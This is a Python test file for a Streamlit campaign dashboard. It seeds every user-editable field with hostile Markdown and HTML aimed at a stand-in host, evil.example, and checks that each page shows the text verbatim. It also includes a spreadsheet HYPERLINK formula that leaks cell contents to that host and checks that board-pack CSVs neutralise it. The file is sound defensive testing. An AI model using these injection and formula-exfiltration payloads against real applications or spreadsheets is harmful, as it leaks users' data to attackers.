"""Text that people wrote is shown as written: never as an image, a link or HTML.

Every field people fill in (campaign names, authors and summaries, partner and event names, post
texts, approvers, pause reasons, account errors, citations, report sources and areas, file
names, user names) is loaded with hostile Markdown and HTML, and every page is opened for every
role. Each piece of text Streamlit reads as Markdown is then rendered with a CommonMark parser:
no image, no link to the hostile host and no raw HTML may come of it. And every CSV of the board
pack is safe to open in a spreadsheet.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from google.protobuf.message import Message
from markdown_it import MarkdownIt
from sqlalchemy import select, update
from sqlalchemy.orm import Session, sessionmaker
from streamlit.testing.v1 import AppTest

from campaigns.storage import db
from campaigns.storage.control import pause
from campaigns.storage.models import (
    Account,
    AuditEntry,
    Campaign,
    Delivery,
    Event,
    Organisation,
    ReportCount,
    ReportDataset,
    ReportingChannel,
    User,
    Variant,
)
from campaigns.storage.reports import import_report_file
from dashboard import boardpack, data
from dashboard.auth import PAGES
from tests.conftest import CONTENT, NOW
from tests.dashboard.conftest import (
    BOARD,
    COUNCIL,
    OFFICER,
    SHARE_KIT_PARTNER,
    Person,
    Seeded,
    sign_in,
)

HOST = "evil.example"
#: An image, a link, raw HTML and an autolink: what made a board member's browser fetch a URL.
HOSTILE = (f" ![t](http://{HOST}/pixel.png) [here](http://{HOST}/) "
           f"<img src=http://{HOST}/i.png> <b>bold</b> <http://{HOST}/auto>")
FORMULA = f'=HYPERLINK("http://{HOST}/?leak="&A1,"Click")'
REPORT = CONTENT / "reports" / "york-synthetic-weekly-2023-2026.csv"
#: Fields of Streamlit's messages that it renders as Markdown...
MARKDOWN_FIELDS = frozenset({"body", "label", "help"})
#: ...except in these messages, which show their text as it is (st.text, st.code, st.json).
VERBATIM = frozenset({"Text", "Code", "Json"})
MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _hostile_report(folder: Path) -> Path:
    lines = REPORT.read_text().splitlines()
    lines = [f"# citation: {FORMULA}" if line.startswith("# citation:") else line
             for line in lines]
    path = folder / f"york{HOSTILE.replace('/', '-')[:60]}.csv"
    path.write_text("\n".join(lines) + "\n")
    return path


def poison(sessions: sessionmaker[Session], folder: Path) -> None:
    """Hostile text in every field people write."""
    with db.transaction(sessions) as session:
        import_report_file(_hostile_report(folder), session=session, now=NOW,
                           imported_by=f"Ima Porter{HOSTILE}")
    with db.transaction(sessions) as session:
        for model, columns in (
            (Event, ("name", "description")),
            (ReportingChannel, ("name", "description")),
            (Organisation, ("name",)),
            (Account, ("handle", "last_error")),
            (Campaign, ("name", "author", "summary", "approved_by")),
            (Variant, ("text",)),
            (Delivery, ("text", "status_reason", "plan_notes", "approved_by")),
            (AuditEntry, ("actor", "reason")),
            (ReportDataset, ("source",)),
            (ReportCount, ("area", "source")),
            (User, ("name",)),
        ):
            column_values = {c: getattr(model, c) + HOSTILE for c in columns}
            session.execute(update(model).values(column_values))
        for campaign in session.scalars(select(Campaign)):
            campaign.editors = [f"Eddie Tor{HOSTILE}"]
            campaign.summary = f"First line\n- a list?\n# a heading?\n{campaign.summary}"
    with db.transaction(sessions) as session:
        pause(session=session, now=NOW, by=f"Pat Pauser{HOSTILE}", reason=f"Crisis{HOSTILE}",
              campaign_key=None)


@pytest.fixture
def hostile(seeded: Seeded, tmp_path: Path) -> Iterator[Seeded]:
    engine = db.make_engine(seeded.url)
    poison(db.session_factory(engine), tmp_path)
    engine.dispose()
    yield seeded


def markdown_texts(message: Message) -> Iterator[str]:
    """Every string of `message` (at any depth) that Streamlit renders as Markdown."""
    if message.DESCRIPTOR.name in VERBATIM:
        return
    for field, value in message.ListFields():
        if field.type == field.TYPE_MESSAGE:
            for item in (value if field.is_repeated else [value]):
                yield from markdown_texts(item)
        elif field.type == field.TYPE_STRING and field.name in MARKDOWN_FIELDS:
            yield from (value if field.is_repeated else [value])
        elif field.name == "options" and message.DESCRIPTOR.name == "Radio":
            yield from value


def protos(at: AppTest) -> Iterator[Message]:
    def walk(node: object) -> Iterator[Message]:
        proto = getattr(node, "proto", None)
        if isinstance(proto, Message):
            yield proto
        for child in getattr(node, "children", {}).values():
            yield from walk(child)

    yield from walk(at._tree)


def unsafe(text: str) -> list[str]:
    """What `text`, rendered as Markdown, makes of the hostile text: images, links, HTML."""
    html = MARKDOWN.render(text)
    return [found for found in ("<img", f'href="http://{HOST}', "<b>bold</b>",
                                f"<http://{HOST}")
            if found in html]


def assert_shown_as_written(at: AppTest, where: str) -> int:
    checked = 0
    for proto in protos(at):
        for text in markdown_texts(proto):
            if HOST in text:
                checked += 1
                assert not unsafe(text), (f"{where}: {proto.DESCRIPTOR.name}: {unsafe(text)} "
                                          f"from {text!r}")
    return checked


@pytest.mark.parametrize("person", [OFFICER, BOARD, COUNCIL, SHARE_KIT_PARTNER],
                         ids=lambda p: p.role + "-" + p.email)
def test_hostile_text_is_shown_as_written_on_every_page_for_every_role(
    hostile: Seeded, person: Person
) -> None:
    at = sign_in(person)
    assert not at.exception, at.exception
    checked = 0
    for page in PAGES.values():
        if person.role not in page.roles:
            continue
        at.switch_page(page.path).run()
        assert not at.exception, f"{page.title}: {at.exception}"
        checked += assert_shown_as_written(at, f"{person.role}: {page.title}")
    assert checked, "no hostile text reached a page: the test tests nothing"


def test_the_campaign_page_shows_hostile_names_and_summaries_as_written(hostile: Seeded) -> None:
    at = sign_in(OFFICER).switch_page(PAGES["campaigns"].path).run()
    [choose] = [s for s in at.selectbox if s.label == "Campaign"]
    for key in choose.options:
        [choose] = [s for s in at.selectbox if s.label == "Campaign"]
        choose.set_value(key).run()
        assert not at.exception, at.exception
        assert at.subheader and HOST in at.subheader[0].value
        assert assert_shown_as_written(at, f"campaign {key}") >= 3


def test_every_csv_of_the_board_pack_is_safe_to_open_in_a_spreadsheet(hostile: Seeded) -> None:
    sources = data.datasets()
    assert FORMULA in set(sources.astype(str).to_numpy().ravel())  # the hostile citation
    tables = [boardpack.PackTable("Sources", sources)]
    pack = boardpack.pack_zip(tables, [], readme="", stamp=NOW)
    with zipfile.ZipFile(io.BytesIO(pack)) as opened:
        text = opened.read("sources.csv").decode(boardpack.CSV_ENCODING)
    cells = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    values = set(cells.to_numpy().ravel())
    assert f"'{FORMULA}" in values and FORMULA not in values
    assert all(boardpack.spreadsheet_safe(v) == v for v in values)
